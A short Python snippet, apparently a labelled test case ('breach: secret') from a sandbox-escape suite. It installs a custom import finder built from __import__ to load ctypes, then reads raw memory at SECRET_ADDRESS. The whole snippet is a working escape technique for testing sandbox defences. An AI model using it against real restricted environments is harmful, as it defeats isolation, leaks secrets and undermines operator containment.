# A finder whose method is the import function itself.
# breach: secret
import functools, sys
class Finder:
    find_spec = staticmethod(functools.partial(__import__))
sys.meta_path.insert(0, Finder)
try:
    import ctypes
finally:
    sys.meta_path.remove(Finder)
ctypes.string_at(SECRET_ADDRESS, 60)
